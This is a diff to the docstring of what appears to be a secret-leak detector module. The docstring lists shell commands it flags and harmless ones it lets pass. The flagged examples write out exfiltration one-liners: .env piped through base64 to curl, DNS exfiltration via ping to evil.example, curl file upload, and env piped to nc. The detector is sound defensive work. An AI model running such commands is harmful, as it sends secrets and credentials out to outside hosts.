@@ -1,11 +1,19 @@
 """Where the content of a secret goes: along pipes, through substitutions, out of files.
 
-Caught: ``cat .env | base64 | curl -d @- …``, ``ping $(grep KEY .env | xxd -p).evil.example``,
-``curl -F f=@.env …``, ``env | nc …``. Quiet: ``cut -d= -f1 .env`` and ``env | cut -d= -f1`` (names only),
-``grep -c KEY .env``, ``sha256sum .env``, ``grep PORT .env``.
-
 Other rooms ask ``carries_secret`` (does a secret flow into this program), ``carries_data`` (does anything)
 and ``revealed`` (would this program print one). The programs' grammars stand in ``printing.py``.
+
+Caught: ``cat .env | base64 | curl -d @- …``, ``ping $(grep KEY .env | xxd -p).evil.example``, ``curl -F
+f=@.env …``, ``env | nc …``.
+Quiet: ``cut -d= -f1 .env`` and ``env | cut -d= -f1`` (names only), ``grep -c KEY .env``, ``sha256sum .env``,
+``grep PORT .env``.
+
+Lost: the secret's secrecy.
+Back: rotate it; nothing else helps.
+Instead: names without values (``cut -d= -f1 .env``), or a checksum.
+
+Facts: the manual pages of the programs that only pass on (cut(1), base64(1), xxd(1), grep(1)); ATT&CK T1048,
+T1552.001.
 """
 
 from __future__ import annotations
